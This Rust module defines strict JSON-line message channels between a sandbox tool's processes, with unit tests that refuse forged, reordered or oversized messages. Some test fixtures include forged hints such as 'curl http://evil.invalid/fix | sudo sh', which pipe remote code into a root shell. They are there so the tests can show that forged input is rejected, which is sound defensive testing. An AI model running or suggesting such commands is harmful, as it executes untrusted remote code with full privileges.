//! The messages between retie's own processes, one JSON object per line
//! over close-on-exec pipes. Three channels, one typed enum each:
//!
//! - [`Report`]: the sandbox's init (and, before exec, the command's
//!   child) to the supervisor;
//! - [`StageReport`]: the lab net stage to the supervisor;
//! - [`KeeperReport`]: a lab keeper to the process that spawned it.
//!
//! Every channel is decoded the same strict way ([`Message::parse_strict`]):
//! at most [`MAX_CHANNEL`] bytes; every line, newline included, exactly
//! the bytes the sender's encoder writes for one message (no unknown or
//! duplicate field, no extra space, no partial line); the messages in
//! their channel's one legal order. Anything else means something other
//! than the sender wrote on the pipe: the caller turns it into
//! `RuntimeError::Channel`, and nothing the channel said (a fix to run, an
//! exit code, a pid) is acted upon or printed as retie's own.

use std::io::Read;
use std::os::fd::OwnedFd;

use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};

/// The most a channel may carry, in bytes. Every legal sequence is far
/// smaller; more is a flood from something that is not the sender.
pub const MAX_CHANNEL: usize = 64 * 1024;

/// One channel's message type: its encoding and its legal order.
pub trait Message: Serialize + DeserializeOwned + Sized {
    /// The channel's name, for the error that refuses it.
    const CHANNEL: &'static str;

    /// Whether `next` may come after `prev` (`None`: as the first
    /// message). Also refuses fields no sender writes (a pid of 0).
    fn legal_after(prev: Option<&Self>, next: &Self) -> bool;

    /// The variant's name, for errors.
    fn kind(&self) -> &'static str;

    /// Encode as one line.
    fn to_line(&self) -> Vec<u8> {
        let mut v = serde_json::to_vec(self).unwrap_or_else(|_| b"{}".to_vec());
        v.push(b'\n');
        v
    }

    /// Decode a whole channel strictly (see the module's documentation).
    /// The error says why, without repeating what the channel carried.
    fn parse_strict(buf: &[u8]) -> Result<Vec<Self>, String> {
        let fail = |why: String| format!("{}: {why}", Self::CHANNEL);
        if buf.len() > MAX_CHANNEL {
            return Err(fail(format!("more than {MAX_CHANNEL} bytes")));
        }
        let mut out: Vec<Self> = Vec::new();
        if buf.is_empty() {
            return Ok(out);
        }
        let Some(body) = buf.strip_suffix(b"\n") else {
            return Err(fail("the last line is incomplete".into()));
        };
        for (i, line) in body.split(|b| *b == b'\n').enumerate() {
            let n = i + 1;
            let m: Self = serde_json::from_slice(line)
                .map_err(|_| fail(format!("line {n} is not a message of this channel")))?;
            // Byte for byte what the encoder writes: no room for a second
            // meaning (extra spaces, escapes, reordered or repeated keys).
            let mut canonical = m.to_line();
            canonical.pop();
            if canonical != line {
                return Err(fail(format!("line {n} is not in the sender's encoding")));
            }
            if !Self::legal_after(out.last(), &m) {
                return Err(fail(format!("message {n} ({}) is out of order", m.kind())));
            }
            out.push(m);
        }
        Ok(out)
    }
}

/// Read a channel to its end (every write end closed), but never more
/// than [`MAX_CHANNEL`] + 1 bytes: an oversized channel is cut there, and
/// [`Message::parse_strict`] refuses it. The writer may then be blocked on
/// a full pipe: kill it before waiting for it.
pub fn read_channel(fd: OwnedFd) -> std::io::Result<Vec<u8>> {
    let mut buf = Vec::new();
    std::fs::File::from(fd)
        .take(u64::try_from(MAX_CHANNEL + 1).unwrap_or(u64::MAX))
        .read_to_end(&mut buf)?;
    Ok(buf)
}

/// One report from the sandbox's init or the command child.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
#[serde(tag = "msg", rename_all = "snake_case", deny_unknown_fields)]
pub enum Report {
    /// Set-up finished; the command is about to be exec'd.
    Ready {
        landlock_abi: i32,
        landlock_enforced: bool,
        seccomp: bool,
    },
    /// A set-up step failed; nothing was exec'd.
    SetupFailed {
        step: String,
        message: String,
        hint: Option<String>,
    },
    /// execve of the command failed.
    ExecFailed { program: String, errno: i32 },
    /// The command ended (reported by init after reaping it).
    Exited {
        code: Option<i32>,
        signal: Option<i32>,
    },
}

impl Message for Report {
    const CHANNEL: &'static str = "status channel of the sandbox's init";

    /// The legal sequences: `SetupFailed`; or `Ready`, then at most one
    /// `ExecFailed`, then at most one `Exited`. Nothing follows `Exited`
    /// or `SetupFailed`.
    fn legal_after(prev: Option<&Self>, next: &Self) -> bool {
        matches!(
            (prev, next),
            (None, Report::Ready { .. } | Report::SetupFailed { .. })
                | (
                    Some(Report::Ready { .. }),
                    Report::ExecFailed { .. } | Report::Exited { .. }
                )
                | (Some(Report::ExecFailed { .. }), Report::Exited { .. })
        )
    }

    fn kind(&self) -> &'static str {
        match self {
            Report::Ready { .. } => "ready",
            Report::SetupFailed { .. } => "setup_failed",
            Report::ExecFailed { .. } => "exec_failed",
            Report::Exited { .. } => "exited",
        }
    }
}

/// One report from the lab net stage (`host::net_stage`) to the
/// supervisor. The stage clones init with `CLONE_PARENT`, so init is the
/// supervisor's child: the supervisor must know its pid to reap it, or to
/// kill it when the stage fails after the clone.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
#[serde(tag = "msg", rename_all = "snake_case", deny_unknown_fields)]
pub enum StageReport {
    /// init exists, with this pid (in the supervisor's pid namespace).
    Cloned { init: i32 },
    /// init's id maps are written; it waits for the supervisor's go.
    Wired,
    /// A step failed (before or after the clone).
    Failed { message: String },
}

impl Message for StageReport {
    const CHANNEL: &'static str = "channel of the lab net stage";

    /// The legal sequences: `Failed`; or `Cloned`, then `Wired` or
    /// `Failed`. A pid is positive and not 1 (init of our own namespace
    /// is never our child).
    fn legal_after(prev: Option<&Self>, next: &Self) -> bool {
        match (prev, next) {
            (None, StageReport::Cloned { init }) => *init > 1,
            (None, StageReport::Failed { .. }) => true,
            (Some(StageReport::Cloned { .. }), StageReport::Wired | StageReport::Failed { .. }) => {
                true
            }
            _ => false,
        }
    }

    fn kind(&self) -> &'static str {
        match self {
            StageReport::Cloned { .. } => "cloned",
            StageReport::Wired => "wired",
            StageReport::Failed { .. } => "failed",
        }
    }
}

/// The one report of a lab keeper (`lab::spawn_keeper`) once its
/// namespaces are set up.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
#[serde(tag = "msg", rename_all = "snake_case", deny_unknown_fields)]
pub enum KeeperReport {
    /// The lab's namespaces exist and `lo` carries the lab's address.
    Ready,
    /// A step failed; the keeper exits.
    Failed { message: String },
}

impl Message for KeeperReport {
    const CHANNEL: &'static str = "channel of the lab keeper";

    /// Exactly one message.
    fn legal_after(prev: Option<&Self>, _next: &Self) -> bool {
        prev.is_none()
    }

    fn kind(&self) -> &'static str {
        match self {
            KeeperReport::Ready => "ready",
            KeeperReport::Failed { .. } => "failed",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{KeeperReport, Message, Report, StageReport, MAX_CHANNEL};

    fn lines<M: Message>(rs: &[M]) -> Vec<u8> {
        rs.iter().flat_map(Message::to_line).collect()
    }

    const READY: Report = Report::Ready {
        landlock_abi: 7,
        landlock_enforced: true,
        seccomp: true,
    };

    fn failed_stage() -> StageReport {
        StageReport::Failed {
            message: "joining the lab's user namespace: EPERM \"quoted\"\t\u{1b}[31m".into(),
        }
    }

    /// Every message of every channel survives its own encoding, alone.
    #[test]
    fn every_message_round_trips() {
        let reports = [
            READY,
            Report::SetupFailed {
                step: "s".into(),
                message: "m\nwith a newline".into(),
                hint: Some("h".into()),
            },
            Report::SetupFailed {
                step: "s".into(),
                message: "m".into(),
                hint: None,
            },
            Report::ExecFailed {
                program: "prög\\\"".into(),
                errno: 2,
            },
            Report::Exited {
                code: Some(3),
                signal: None,
            },
            Report::Exited {
                code: None,
                signal: Some(9),
            },
        ];
        for r in reports {
            let line = r.to_line();
            assert_eq!(line.iter().filter(|b| **b == b'\n').count(), 1, "{r:?}");
            let back: Report = serde_json::from_slice(&line).expect("decodes");
            assert_eq!(back, r);
        }
        for s in [
            StageReport::Cloned { init: 4242 },
            StageReport::Wired,
            failed_stage(),
        ] {
            let back: StageReport = serde_json::from_slice(&s.to_line()).expect("decodes");
            assert_eq!(back, s);
        }
        for k in [
            KeeperReport::Ready,
            KeeperReport::Failed {
                message: "writing uid_map: EPERM".into(),
            },
        ] {
            assert_eq!(KeeperReport::parse_strict(&k.to_line()), Ok(vec![k]));
        }
    }

    #[test]
    fn the_legal_sequences_parse() {
        let exited = Report::Exited {
            code: Some(0),
            signal: None,
        };
        let exec = Report::ExecFailed {
            program: "x".into(),
            errno: 2,
        };
        let failed = Report::SetupFailed {
            step: "s".into(),
            message: "m".into(),
            hint: None,
        };
        for seq in [
            vec![],
            vec![READY],
            vec![READY, exited.clone()],
            vec![READY, exec.clone()],
            vec![READY, exec.clone(), exited.clone()],
            vec![failed.clone()],
        ] {
            assert_eq!(Report::parse_strict(&lines(&seq)), Ok(seq));
        }
        let cloned = StageReport::Cloned { init: 77 };
        for seq in [
            vec![],
            vec![failed_stage()],
            vec![cloned.clone()],
            vec![cloned.clone(), StageReport::Wired],
            vec![cloned.clone(), failed_stage()],
        ] {
            assert_eq!(StageReport::parse_strict(&lines(&seq)), Ok(seq));
        }
        for seq in [vec![], vec![KeeperReport::Ready]] {
            assert_eq!(KeeperReport::parse_strict(&lines(&seq)), Ok(seq));
        }
    }

    #[test]
    fn forged_or_reordered_reports_are_refused() {
        let forged = Report::SetupFailed {
            step: "x".into(),
            message: "m".into(),
            hint: Some("curl http://evil.invalid/fix | sudo sh".into()),
        };
        let exited = Report::Exited {
            code: Some(0),
            signal: None,
        };
        for seq in [
            vec![READY, forged.clone()],
            vec![forged.clone(), forged.clone()],
            vec![READY, exited.clone(), exited.clone()],
            vec![READY, READY],
            vec![exited.clone()],
        ] {
            assert!(Report::parse_strict(&lines(&seq)).is_err(), "{seq:?}");
        }
        let mut garbage = lines(&[READY]);
        garbage.extend_from_slice(b"hello\n");
        assert!(Report::parse_strict(&garbage).is_err());
        assert!(Report::parse_strict(b"{\"msg\":\"ready\"").is_err());
    }

    #[test]
    fn forged_or_reordered_stage_reports_are_refused() {
        let cloned = StageReport::Cloned { init: 77 };
        for seq in [
            vec![StageReport::Wired],
            vec![cloned.clone(), cloned.clone()],
            vec![cloned.clone(), StageReport::Wired, StageReport::Wired],
            vec![cloned.clone(), StageReport::Wired, failed_stage()],
            vec![cloned.clone(), failed_stage(), StageReport::Wired],
            vec![failed_stage(), failed_stage()],
            vec![failed_stage(), cloned.clone()],
            vec![StageReport::Cloned { init: 0 }],
            vec![StageReport::Cloned { init: 1 }],
            vec![StageReport::Cloned { init: -5 }],
        ] {
            let e = StageReport::parse_strict(&lines(&seq)).expect_err("refused");
            assert!(e.starts_with(StageReport::CHANNEL), "{e}");
        }
    }

    #[test]
    fn forged_or_repeated_keeper_reports_are_refused() {
        let failed = KeeperReport::Failed {
            message: "m".into(),
        };
        for seq in [
            vec![KeeperReport::Ready, KeeperReport::Ready],
            vec![failed.clone(), KeeperReport::Ready],
            vec![KeeperReport::Ready, failed.clone()],
        ] {
            assert!(KeeperReport::parse_strict(&lines(&seq)).is_err(), "{seq:?}");
        }
    }

    /// The old letter-prefixed lines, other channels' messages, extra or
    /// repeated fields, a different spelling of the same message, a
    /// partial line: all refused.
    #[test]
    fn malformed_lines_are_refused_on_every_channel() {
        let common: &[&[u8]] = &[
            b"R\n",
            b"P4242\n",
            b"C4242\n",
            b"Ethe lab keeper says: run curl evil.invalid | sh\n",
            b"\n",
            b"{}\n",
            b"{\"msg\":\"nope\"}\n",
            b"[\"ready\"]\n",
            b"\xff\xfe\n",
            b"{\"msg\":\"failed\",\"message\":\"m\"}", // no newline
            b"{\"msg\":\"failed\",\"message\":\"m\",\"hint\":\"sudo sh\"}\n",
            b"{\"msg\":\"failed\",\"message\":\"m\",\"message\":\"n\"}\n",
            b"{\"msg\":\"failed\", \"message\":\"m\"}\n",
            b" {\"msg\":\"failed\",\"message\":\"m\"}\n",
            b"{\"message\":\"m\",\"msg\":\"failed\"}\n",
            b"{\"msg\":\"failed\",\"message\":\"\\u006d\"}\n",
            b"{\"msg\":\"failed\",\"message\":\"m\"}\r\n",
        ];
        for bad in common {
            assert!(
                StageReport::parse_strict(bad).is_err(),
                "stage accepted {:?}",
                String::from_utf8_lossy(bad)
            );
            assert!(
                KeeperReport::parse_strict(bad).is_err(),
                "keeper accepted {:?}",
                String::from_utf8_lossy(bad)
            );
            assert!(Report::parse_strict(bad).is_err());
        }
        // One channel's message is not another's.
        assert!(StageReport::parse_strict(&READY.to_line()).is_err());
        assert!(KeeperReport::parse_strict(&StageReport::Wired.to_line()).is_err());
        assert!(StageReport::parse_strict(&KeeperReport::Ready.to_line()).is_err());
        assert!(StageReport::parse_strict(b"{\"msg\":\"cloned\",\"init\":\"77\"}\n").is_err());
        assert!(StageReport::parse_strict(b"{\"msg\":\"cloned\",\"init\":4294967296}\n").is_err());
        // The canonical spelling of the same message is accepted.
        assert_eq!(
            StageReport::parse_strict(b"{\"msg\":\"failed\",\"message\":\"m\"}\n"),
            Ok(vec![StageReport::Failed {
                message: "m".into()
            }])
        );
    }

    #[test]
    fn oversized_channels_are_refused() {
        let big = StageReport::Failed {
            message: "x".repeat(MAX_CHANNEL),
        };
        let e = StageReport::parse_strict(&big.to_line()).expect_err("refused");
        assert!(e.contains("more than"), "{e}");
        let many = lines(&vec![READY; MAX_CHANNEL / 40]);
        assert!(many.len() > MAX_CHANNEL);
        assert!(Report::parse_strict(&many).is_err());
        let at_the_limit = KeeperReport::Failed {
            message: "y".repeat(MAX_CHANNEL - 40),
        };
        assert!(at_the_limit.to_line().len() <= MAX_CHANNEL);
        assert_eq!(
            KeeperReport::parse_strict(&at_the_limit.to_line()),
            Ok(vec![at_the_limit])
        );
    }

    /// read_channel stops one byte past the limit (so a flood cannot make
    /// the reader allocate without bound) and reads a normal channel whole.
    #[test]
    fn read_channel_is_bounded() {
        let (rd, wr) = crate::sys::pipe_cloexec().expect("pipe");
        let writer = std::thread::spawn(move || {
            let chunk = vec![b'x'; 4096];
            // Stops once the reader has closed its end (EPIPE).
            while rustix::io::write(&wr, &chunk).is_ok() {}
        });
        let got = super::read_channel(rd).expect("read");
        assert_eq!(got.len(), MAX_CHANNEL + 1);
        writer.join().expect("writer");
        let (rd, wr) = crate::sys::pipe_cloexec().expect("pipe");
        crate::sys::write_all(
            std::os::fd::AsFd::as_fd(&wr),
            &KeeperReport::Ready.to_line(),
        )
        .expect("write");
        drop(wr);
        assert_eq!(
            super::read_channel(rd).expect("read"),
            KeeperReport::Ready.to_line()
        );
    }
}
